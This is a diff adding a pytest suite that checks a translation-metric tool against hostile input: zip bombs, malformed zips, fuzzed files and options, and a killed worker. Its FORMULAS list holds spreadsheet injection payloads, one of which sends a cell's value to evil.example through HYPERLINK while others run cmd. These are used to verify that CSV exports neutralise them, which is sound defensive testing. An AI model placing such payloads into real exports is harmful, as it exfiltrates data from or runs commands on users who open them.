@@ -1,0 +1,338 @@
+"""Holding under attack (issue 49): uploads bounded while they are read, exports safe to open, no silent merge
+or overflow, no internal error on any input or option, and a worker that dies mid-batch - through the real
+readers, the command line and the real annotation workers."""
+import io
+import json
+import os
+import resource
+import subprocess
+import sys
+import zipfile
+
+import pytest
+from hypothesis import HealthCheck, given, settings
+from hypothesis import strategies as hs
+
+from conftest import ROOT, SAMPLE, SHARED, sample_paths
+
+WMT24 = SHARED / "data" / "wmt24"
+
+
+def run(capsys, *args):
+    from blonde_core.cli import main
+
+    code = main(list(map(str, args)))
+    out = capsys.readouterr()
+    return code, out.out, out.err
+
+
+SAMPLE_ARGS = ["-r", SAMPLE / "reference.txt", "-s", *sample_paths()[:2], "--docids", SAMPLE / "docids.txt"]
+
+
+# -- zips ------------------------------------------------------------------------------------------------
+
+def _layout_zip(member: bytes, extra=()) -> bytes:
+    buf = io.BytesIO()
+    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as z:
+        z.writestr("wmt/documents/en-de.docs", "news d1\nnews d1\n")
+        z.writestr("wmt/references/en-de.refA.txt", "One line.\nTwo lines.\n")
+        z.writestr("wmt/system-outputs/en-de/sys.txt", member)
+        for name, data in extra:
+            z.writestr(name, data)
+    return buf.getvalue()
+
+
+def test_a_zip_bomb_is_refused_while_it_inflates_with_little_memory(tmp_path):
+    """A ~30 KB zip of a member that inflates ~1000 times (16 MB; the issue's 60 KB / 60 MB at a smaller size):
+    refused by `score --wmt-dir` with exit 2, the member named, the process's peak memory far below 400 MB."""
+    bomb = tmp_path / "bomb.zip"
+    bomb.write_bytes(_layout_zip(b"x" * 16_000_000))
+    assert bomb.stat().st_size < 40_000
+    before = resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss
+    p = subprocess.run([sys.executable, "-m", "blonde_core", "score", "--wmt-dir", str(bomb), "--metrics", "chrF"],
+                       capture_output=True, text=True, cwd=ROOT, timeout=120)
+    peak_mb = resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss / 1024
+    assert p.returncode == 2, p.stderr
+    assert "system-outputs/en-de/sys.txt" in p.stderr and "times its packed size" in p.stderr
+    assert "Traceback" not in p.stderr
+    assert peak_mb < 400 or before / 1024 >= 400, peak_mb  # (ru_maxrss of children: the largest so far)
+
+
+def _patch_flag(data: bytes, flag: int) -> bytes:
+    """The zip with general-purpose flag bits set on every member (local headers and central directory)."""
+    b = bytearray(data)
+    for sig, off in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
+        i = b.find(sig)
+        while i >= 0:
+            b[i + off] |= flag
+            i = b.find(sig, i + 4)
+    return bytes(b)
+
+
+@pytest.mark.parametrize("kind", ["encrypted", "corrupt", "lying", "twice", "garbage"])
+def test_broken_zips_get_a_clear_message(capsys, tmp_path, kind):
+    data = _layout_zip(b"Eins.\nZwei.\n")
+    if kind == "encrypted":
+        data = _patch_flag(data, 0x1)
+    elif kind == "corrupt":  # the deflate stream of the last member damaged
+        b = bytearray(data)
+        at = b.rfind(b"PK\x03\x04")
+        for k in range(at + 40, at + 48):
+            b[k] ^= 0xFF
+        data = bytes(b)
+    elif kind == "lying":  # the central directory claims a tiny uncompressed size for every member
+        b = bytearray(data)
+        i = b.find(b"PK\x01\x02")
+        while i >= 0:
+            b[i + 24:i + 28] = (1).to_bytes(4, "little")
+            i = b.find(b"PK\x01\x02", i + 4)
+        data = bytes(b)
+    elif kind == "twice":
+        import warnings
+
+        with warnings.catch_warnings():
+            warnings.simplefilter("ignore")  # zipfile warns of the duplicate name it is told to write
+            data = _layout_zip(b"Eins.\nZwei.\n", [("wmt/system-outputs/en-de/sys.txt", "Drei.\nVier.\n")])
+    else:
+        data = b"PK\x03\x04" + os.urandom(300)
+    z = tmp_path / f"{kind}.zip"
+    z.write_bytes(data)
+    code, out, err = run(capsys, "score", "--wmt-dir", z, "--metrics", "chrF")
+    assert code == 2, (kind, err)
+    assert "internal error" not in err and str(z) in err, err
+    if kind == "twice":
+        assert "twice" in err
+
+
+def test_the_real_wmt24_folder_reads_from_a_zip(tmp_path):
+    """The limits leave real data alone: WMT24 en-cs zipped whole (texts ~3-5 x packed) reads as the folder."""
+    from blonde_core.study import Study
+
+    z = tmp_path / "wmt24.zip"
+    with zipfile.ZipFile(z, "w", zipfile.ZIP_DEFLATED) as out:
+        for p in WMT24.rglob("*"):
+            if p.is_file() and ("en-cs" in p.name or p.parent.name == "en-cs"):
+                out.write(p, f"wmt24/{p.relative_to(WMT24)}")
+    a, b = Study.from_wmt(z), Study.from_wmt(WMT24, "en-cs")
+    assert a.corpus.systems == b.corpus.systems and a.corpus.references == b.corpus.references
+
+
+def test_reading_limits_refuse_a_huge_file_before_parsing_it(tmp_path):
+    from blonde_core.errors import InputError
+    from blonde_core.study import Study
+
+    big = tmp_path / "big.jsonl"
+    big.write_text("".join(json.dumps({"system": "s", "doc_id": "d", "text": "x"}) + "\n" for _ in range(20_000)))
+    with pytest.raises(InputError, match="20,000 lines or more; this server takes at most 5,000 segments"):
+        with Study.reading_limits(100, 5_000):
+            Study.from_structured(big)
+    Study.from_structured(big, ["s"]) if False else None  # outside the block: no limit
+
+
+# -- exports ---------------------------------------------------------------------------------------------
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0",
+            "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0"]
+
+
+def test_csv_never_starts_a_text_cell_with_a_formula(capsys, tmp_path):
+    import csv
+
+    f = tmp_path / "in.jsonl"
+    ref = ["The cat sat on the mat.", "He said that it was fine."]
+    rows = [{"system": "ref", "doc_id": "d1", "seg_id": i + 1, "text": r} for i, r in enumerate(ref)]
+    rows += [{"system": n, "doc_id": "d1", "seg_id": i + 1, "text": r.replace("cat", "dog")}
+             for n in FORMULAS for i, r in enumerate(ref)]
+    f.write_text("".join(json.dumps(r) + "\n" for r in rows))
+    for extra in ([], ["--metrics", "chrF"], ["--per-doc", "--ci", "50"]):
+        code, out, err = run(capsys, "score", "--input", f, "--reference-systems", "ref", "--format", "csv", *extra)
+        assert code == 0, err
+        table = list(csv.reader(io.StringIO(out)))
+        cells = [c for row in table for c in row]
+        for c in cells:
+            if c[:1] in ("=", "+", "-", "@", "\t", "\r"):
+                float(c)  # only numbers may start so
+        names = [row[0] for row in table[1:]]
+        assert {"'" + n for n in FORMULAS} <= set(names)  # the names kept, neutralised as OWASP recommends
+
+
+def test_page_downloads_neutralise_formulas_and_keep_numbers():
+    import pandas as pd
+
+    from blonde_core.study import Study
+
+    df = pd.DataFrame({"system": FORMULAS + ["plain"], "score": [-1.5, 2.0, -0.25, 3.0, 4.0],
+                       "-TER": ["-0.5", "x", "=1", "", "@"]})
+    text = Study.frame_csv(df).decode()
+    lines = text.splitlines()
+    assert lines[0] == "system,score,'-TER"
+    assert lines[1].startswith("\"'=HYPERLINK") and ",-1.5,-0.5" in lines[1]  # numbers stay numbers
+    assert ",'=1" in lines[3] and lines[5].endswith(",'@")
+
+
+def test_latex_prints_a_backslash_and_braces_literally():
+    from blonde_core.study import Study
+
+    assert Study.latex_text(r"\input{x}") == r"\textbackslash{}input\{x\}"
+
+
+# -- no silent merge, no overflow ------------------------------------------------------------------------
+
+def test_duplicate_and_overflowing_scores_are_refused(capsys, tmp_path):
+    names = ["consistent", "names"]  # the first two of sample_paths()
+    good = tmp_path / "m.tsv"
+    rows = [f"{s}\tlab\t0.5" for s in names]
+    good.write_text("system\tdoc\tCOMET\n" + "\n".join(rows) + "\n")
+    assert run(capsys, "score", *SAMPLE_ARGS, "--metric-scores", good, "--metrics", "chrF")[0] == 0
+    dup = tmp_path / "dup.tsv"
+    dup.write_text("system\tdoc\tCOMET\n" + "\n".join(rows + [f"{names[0]}\tlab\t10.35"]) + "\n")
+    code, _, err = run(capsys, "score", *SAMPLE_ARGS, "--metric-scores", dup, "--metrics", "chrF")
+    assert code == 2 and "appears again (first on line 2)" in err and "line 4" in err, err
+    for bad in ("1e308", "inf", "-Infinity", "1e999"):
+        f = tmp_path / "big.tsv"
+        f.write_text("system\tdoc\tCOMET\n" + f"{names[0]}\tlab\t{bad}\n")
+        code, _, err = run(capsys, "score", *SAMPLE_ARGS, "--metric-scores", f, "--metrics", "chrF")
+        assert code == 2 and "not a finite number below 1e+12" in err and "line 2" in err, (bad, err)
+
+
+def test_duplicate_judgments_are_refused(capsys, tmp_path):
+    f = tmp_path / "h.tsv"
+    f.write_text("system\tdoc\tscore\nconsistent\tlab\t80\nnames\tlab\t70\nconsistent\tlab\t20\n")
+    code, _, err = run(capsys, "correlate", *SAMPLE_ARGS, "--human", f)
+    assert code == 2 and "appears again (first on line 2)" in err and "seg_id" in err, err
+    f.write_text("system\tdoc\tscore\nconsistent\tlab\t1e308\n")
+    code, _, err = run(capsys, "correlate", *SAMPLE_ARGS, "--human", f)
+    assert code == 2 and "not a finite number" in err
+
+
+@pytest.mark.parametrize("payload,what", [
+    ('{"translations": [{"name": "consistent.txt", "scores": [Infinity, 1]}]}', "Infinity"),
+    ('{"translations": [{"name": "consistent.txt", "scores": ["high", 1]}]}', "not a number"),
+    ('{"translations": [{"name": "consistent.txt", "scores": [[1, 2], 1]}]}', "not a number"),
+    ('{"translations": [{"name": "consistent.txt", "scores": [1' + "0" * 400 + ', 1]}]}', "not a finite number"),
+    ('{"consistent.txt": [{"mt": "a", "COMET": NaN}]}', "NaN"),
+])
+def test_comet_json_with_no_number_is_refused(capsys, tmp_path, payload, what):
+    f = tmp_path / "comet.json"
+    f.write_text(payload)
+    code, _, err = run(capsys, "score", *SAMPLE_ARGS, "--metric-scores", f, "--metrics", "chrF")
+    assert code == 2 and what in err and "internal error" not in err, err
+
+
+def test_mqm_weights_that_would_overflow_are_refused(capsys):
+    mqm = SHARED / "data" / "ted-zhen" / "raw" / "mqm_ted_zhen.tsv"
+    code, _, err = run(capsys, "human", "--mqm", mqm, "--weights", "Major=1e308")
+    assert code == 2 and "weight" in err, err
+
+
+# -- options ---------------------------------------------------------------------------------------------
+
+@pytest.mark.parametrize("argv", [
+    ["compare", *SAMPLE_ARGS, "--seed", "-1"], ["compare", *SAMPLE_ARGS, "--n", "0"],
+    ["score", *SAMPLE_ARGS, "--otem-n", "0"], ["score", *SAMPLE_ARGS, "--utem-n", "-1"],
+    ["score", *SAMPLE_ARGS, "--metrics", "BlonD-dist", "--alpha", "0"], ["score", *SAMPLE_ARGS, "--ci", "0"],
+    ["score", *SAMPLE_ARGS, "-wt", "nan", "-w"], ["contrast", *SAMPLE_ARGS, "--pair", "consistent", "names", "--top", "0"],
+    ["correlate", *SAMPLE_ARGS, "--human", SAMPLE / "human_judgments.tsv", "--permutations", "0"],
+    ["correlate", *SAMPLE_ARGS, "--human", SAMPLE / "human_judgments.tsv", "--bootstrap", "-5"],
+    ["report", *SAMPLE_ARGS, "--seed", "x"], ["score", *SAMPLE_ARGS, "-j", "0"],
+])
+def test_bad_options_are_refused_with_exit_2(capsys, argv):
+    code, _, err = run(capsys, *argv)
+    assert code == 2 and "internal error" not in err and "(see --help)" in err, err
+
+
+# -- fuzz: hostile bytes through every reader, hostile values through the options ------------------------
+
+FUZZ = settings(max_examples=25, deadline=None, suppress_health_check=list(HealthCheck))
+
+
+@FUZZ
+@given(data=hs.binary(max_size=600), kind=hs.sampled_from(["metric.tsv", "comet.json", "human.tsv", "esa.csv",
+                                                         "input.jsonl", "input.tsv", "wmt.zip", "ref.txt"]))
+def test_fuzz_readers_never_raise_an_internal_error(tmp_path_factory, data, kind):
+    from blonde_core.cli import main
+
+    d = tmp_path_factory.mktemp("fuzz")
+    f = d / kind
+    if kind == "wmt.zip":  # a real zip around hostile bytes, or the bytes themselves
+        f.write_bytes(_layout_zip(data) if data[:1] == b"\x00" else data)
+    else:
+        f.write_bytes(data)
+    argv = {"metric.tsv": ["score", *SAMPLE_ARGS, "--metric-scores", f, "--metrics", "chrF"],
+            "comet.json": ["score", *SAMPLE_ARGS, "--metric-scores", f, "--metrics", "chrF"],
+            "human.tsv": ["human", f], "esa.csv": ["human", f],
+            "input.jsonl": ["score", "--input", f, "--metrics", "chrF", "--no-cache"],
+            "input.tsv": ["score", "--input", f, "--metrics", "chrF", "--no-cache"],
+            "wmt.zip": ["score", "--wmt-dir", f, "--metrics", "chrF"],
+            "ref.txt": ["score", "-r", f, "-s", f, "--metrics", "chrF", "--no-cache"]}[kind]
+    import contextlib
+
+    err = io.StringIO()
+    with contextlib.redirect_stderr(err), contextlib.redirect_stdout(io.StringIO()):
+        code = main([str(x) for x in argv])
+    assert code in (0, 2), (kind, data[:80], err.getvalue())
+    assert "Traceback" not in err.getvalue()
+
+
+OPTION_VALUES = hs.one_of(hs.integers(-10**20, 10**20).map(str), hs.floats(allow_nan=True).map(str),
+                          hs.sampled_from(["", "x", "-", "1e308", "nan", "inf", "0", "-0", "NaN"]))
+
+
+@FUZZ
+@given(flag=hs.sampled_from([("compare", "--n"), ("compare", "--seed"), ("score", "--otem-n"), ("score", "--utem-n"),
+                             ("score", "--alpha"), ("score", "--seed"), ("score", "-wt"), ("contrast", "--top")]),
+       value=OPTION_VALUES)
+def test_fuzz_options_never_raise_an_internal_error(flag, value):
+    from blonde_core.cli import main
+
+    cmd, opt = flag
+    extra = {"score": ["--metrics", "BlonD-dist,Otem,Utem", "--ci", "20"] + (["-w"] if opt == "-wt" else []),
+             "compare": ["--unit", "segment"], "contrast": ["--pair", "consistent", "names"]}[cmd]
+    if opt in ("--n",) and value.lstrip("-").isdigit() and int(value) > 5000:
+        value = "5000"  # a valid huge count only takes time
+    import contextlib
+
+    err = io.StringIO()
+    with contextlib.redirect_stderr(err), contextlib.redirect_stdout(io.StringIO()):
+        code = main([str(x) for x in ["--" if False else cmd, *SAMPLE_ARGS, *extra, opt, value]])
+    assert code in (0, 2), (flag, value, err.getvalue())
+
+
+# -- a worker that dies mid-batch ------------------------------------------------------------------------
+
+def _children(pid: int) -> set:
+    """Every child of the process, whichever of its threads started it."""
+    out = set()
+    for t in os.listdir(f"/proc/{pid}/task"):
+        try:
+            with open(f"/proc/{pid}/task/{t}/children") as f:
+                out |= {int(c) for c in f.read().split()}
+        except OSError:
+            pass
+    return out
+
+
+@pytest.mark.skipif(not sys.platform.startswith("linux"), reason="reads /proc")
+def test_a_worker_killed_mid_batch_is_replaced_and_the_batch_retried():
+    """The server's pool with one worker: killed while it annotates a batch, the batch goes to a fresh worker and
+    its records equal the pipeline's own (before, the Overview broke with 'annotation worker exited')."""
+    import signal
+    import time
+
+    from blonde_core.annotation.pipeline import doc_to_record, load_pipeline
+    from blonde_core.annotation.workers import WorkerPool
+    from blonde_core.lang import load_pack
+
+    texts = [f"He said she would come on day {i}, however Barack Obama visited Paris." for i in range(1500)]
+    before = _children(os.getpid())
+    pool = WorkerPool("en", 1)
+    assert pool.submit(texts[:2]).result(timeout=120)  # started and ready
+    worker = (_children(os.getpid()) - before).pop()
+    fut = pool.submit(texts)
+    time.sleep(0.8)  # the batch is being annotated
+    assert not fut.done()
+    os.kill(worker, signal.SIGKILL)
+    got = fut.result(timeout=300)
+    want = [doc_to_record(d) for d in load_pipeline(load_pack("en")).pipe(texts)]
+    assert got == want
+    assert worker not in _children(os.getpid())
